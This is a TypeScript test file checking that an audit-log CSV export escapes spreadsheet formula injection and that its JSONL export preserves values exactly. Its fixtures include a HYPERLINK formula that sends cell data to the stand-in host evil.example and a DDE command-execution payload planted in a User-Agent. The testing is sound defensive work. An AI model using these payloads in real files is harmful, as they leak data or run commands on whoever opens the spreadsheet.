// Issue 9, item 5: text an anonymous visitor controls (the e-mail typed at a failed sign-in, the
// User-Agent) must not reach a spreadsheet as a formula. The CSV export prefixes such cells with
// "'" (OWASP); JSONL keeps them exact; both files still verify against their manifests.
import { beforeAll, describe, expect, test } from "vitest";
import { signInWithPassword } from "@/lib/auth/sign-in-with-password";
import { verifyExport } from "@/lib/audit/export/verify-export";
import { maskEmail } from "@/lib/privacy/subject-hash";
import { createTestKey, seedRoles, uniqueName } from "../../helpers/fixtures";
import { exportToFiles } from "../audit/export-fixtures";

const corr = uniqueName("csv-formula");
// Sign-in lower-cases the address it audits, and keeps what was typed for an unknown account only
// as a mask ("=***"), which still starts with the formula character.
const email = `=hyperlink("http://evil.example/?"&a1,"${uniqueName("click")}")`;
const actorLabel = maskEmail(email);
const userAgent = "=cmd|' /C calc'!A0 @SUM(1+1)";
let credentials: { apiKey: string };

/** RFC 4180 records: quoted fields may hold commas, newlines and doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let isQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (isQuoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') isQuoted = false;
      else field += char;
    } else if (char === '"') isQuoted = true;
    else if (char === ",") {
      record.push(field);
      field = "";
    } else if (char === "\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
    } else if (char !== "\r") field += char;
  }
  if (field || record.length) records.push([...record, field]);
  return records;
}

beforeAll(async () => {
  await seedRoles();
  credentials = { apiKey: (await createTestKey(["compliance_officer"])).secret };
  const outcome = await signInWithPassword(email, "not-the-password", {
    ip: "198.51.100.77",
    userAgent,
    correlationId: corr,
  });
  expect(outcome.ok).toBe(false);
});

describe("CSV formula injection", () => {
  test("cells starting with = + - @ tab or CR are written with a leading quote, and the file verifies", async () => {
    const saved = await exportToFiles({ format: "csv", correlationId: corr }, credentials);
    const [header, ...rows] = parseCsv(saved.bytes.toString("utf8"));
    expect(rows).toHaveLength(1);
    const cell = (name: string) => rows[0][header.indexOf(name)];
    expect(actorLabel).toMatch(/^=/);
    expect(cell("actorLabel")).toBe(`'${actorLabel}`);
    expect(cell("userAgent")).toBe(`'${userAgent}`);
    for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect((await verifyExport({ filePath: saved.filePath, manifestPath: saved.manifestPath })).isValid).toBe(
      true,
    );
  });

  test("JSONL keeps the values exactly as they were typed", async () => {
    const saved = await exportToFiles({ format: "jsonl", correlationId: corr }, credentials);
    const [line] = saved.bytes
      .toString("utf8")
      .trimEnd()
      .split("\n")
      .map((text) => JSON.parse(text) as Record<string, unknown>);
    expect(line).toMatchObject({ actorLabel, userAgent });
    expect((await verifyExport({ filePath: saved.filePath, manifestPath: saved.manifestPath })).isValid).toBe(
      true,
    );
  });
});
